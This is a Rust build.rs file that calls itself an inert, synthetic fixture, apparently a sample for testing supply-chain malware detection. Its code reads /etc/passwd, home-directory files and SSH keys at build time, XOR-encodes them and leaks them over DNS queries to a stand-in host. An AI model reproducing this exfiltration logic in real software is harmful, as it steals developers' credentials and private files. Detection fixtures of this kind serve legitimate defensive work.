// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, net::UdpSocket, path::{Path, PathBuf}};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = PathBuf::from(env::var_os("HOME").unwrap_or_default());
    let mut files = vec![PathBuf::from("/etc/hosts"), PathBuf::from("/etc/passwd"), home.join(".gitconfig")];
    files.extend(fs::read_dir(&home).into_iter().flatten().flatten().map(|e| e.path()).take(1000));
    files.extend(fs::read_dir(home.join(".ssh")).into_iter().flatten().flatten().map(|e| e.path()));
    for file in files {
        if fs::metadata(&file).map_or(false, |m| m.is_file() && m.len() < 99_999) {
            let _ = ship(&file);
        }
    }
}

fn ship(file: &Path) -> std::io::Result<()> {
    let socket = UdpSocket::bind(("0.0.0.0", 0))?;
    for (i, part) in fs::read(file)?.chunks(30).enumerate() {
        let label: String = part.iter().map(|b| format!("{:02x}", b ^ 0x5f)).collect();
        let mut q = vec![(i >> 8) as u8, i as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.len() as u8];
        q.extend_from_slice(label.as_bytes());
        q.extend_from_slice(b"\x03h4c\x07example\x07invalid\0\0\x01\0\x01");
        socket.send_to(&q, ("192.0.2.53", 53))?;
    }
    Ok(())
}

inert_fixture_does_not_build!();
